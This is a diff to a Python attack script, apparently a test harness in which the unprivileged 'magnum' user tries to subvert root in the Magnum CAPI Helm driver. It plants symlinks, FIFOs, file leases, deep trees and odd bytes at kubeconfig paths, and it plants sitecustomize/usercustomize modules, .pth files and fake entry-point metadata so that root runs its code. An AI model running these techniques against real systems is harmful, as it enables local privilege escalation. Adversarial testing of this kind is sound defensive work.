@@ -1,12 +1,15 @@
 """User magnum as an attacker: usage attacker.py SECONDS SEED. Plants whatever it can where root reads, writes or runs something.
 
-In random order: links at the names that root uses and at those that one may guess, FIFOs, trees 3,000 deep, bytes that
-are not text; code and metadata in its own site directory. Soon after, it puts back what stood there, unless somebody
-else has put something there. At the end nothing of it is left but /var/lib/magnum/loot: who has run its code.
+In random order: links at the names that root uses and at those that one may guess, FIFOs, files on which it holds a
+lease, trees 3,000 deep, bytes that are not text; code and metadata in its own site directory. Soon after, it puts back
+what stood there, unless somebody else has put something there. At the end nothing of it is left but
+/var/lib/magnum/loot: who has run its code.
 """
+import fcntl
 import itertools
 import os
 import random
+import signal
 import stat
 import sys
 import time
@@ -33,6 +36,7 @@ sys.path.insert(0, {home!r} + "/site")
 sysconfig.get_path = lambda *_: {home!r} + "/site"
 """.format(loot=LOOT, python=PYTHON, home=HOME)
 numbers = itertools.count()
+leases = []
 chance = random.Random(int(sys.argv[2]))
 
 
@@ -56,6 +60,12 @@ def odd_bytes(path):
 def large(path):
     with open(path, "wb") as file:
         file.truncate(9 << 20)
+
+
+def leased(path):
+    """Whoever opens it waits, or is turned away."""
+    leases.append(os.open(path, os.O_RDWR | os.O_CREAT | os.O_EXCL))
+    fcntl.fcntl(leases[-1], fcntl.F_SETLEASE, fcntl.F_WRLCK)
 
 
 def deep(path):
@@ -110,7 +120,7 @@ def metadata(path):
             file.write("[magnum.drivers]\nevil = usercustomize:x\n")
 
 
-SHAPES = (link, link, hard_link, fifo, odd_bytes, large, deep, directory)
+SHAPES = (link, link, hard_link, fifo, odd_bytes, large, leased, deep, directory)
 PLACES = (
     [(ETC + "/" + name, SHAPES) for name in (
         "kubeconfig", "kubeconfig", ".kubeconfig.tmp", "kubeconfig.partial", ".magnum-capi-helm-kubeconfig",
@@ -119,6 +129,7 @@ PLACES = (
     + [(SITE + "/" + name, (what,)) for name, what in (
         ("usercustomize.py", module), ("sitecustomize.py", module), ("evil.pth", at_start),
         ("magnum_capi_helm", driver), ("magnum_capi_helm", deep), ("magnum_capi_helm.py", link),
+        ("magnum_capi_helm-" + "x" * 220, driver),
         ("magnum_capi_helm-9.dist-info", metadata), ("evil-9.dist-info", metadata), ("evil-9.dist-info", metadata))]
 )
 
@@ -158,6 +169,8 @@ def attack(path, plant):
         # What runs at Python's start is to be there when root asks it.
         time.sleep(chance.uniform(0, 3) if path.startswith(SITE) else chance.choice((0, 0.02, 0.2)))
     finally:
+        while leases:
+            os.close(leases.pop())
         clear(path)
         if had and not os.path.lexists(path):
             os.rename(stash, path)
@@ -177,6 +190,8 @@ def several(end):
 
 
 os.umask(0)
+# Sent to whoever holds a lease that another waits for.
+signal.signal(signal.SIGIO, signal.SIG_IGN)
 for made in (TRASH, LOCAL, SITE):
     os.makedirs(made, exist_ok=True)
 open(LOOT, "w").close()
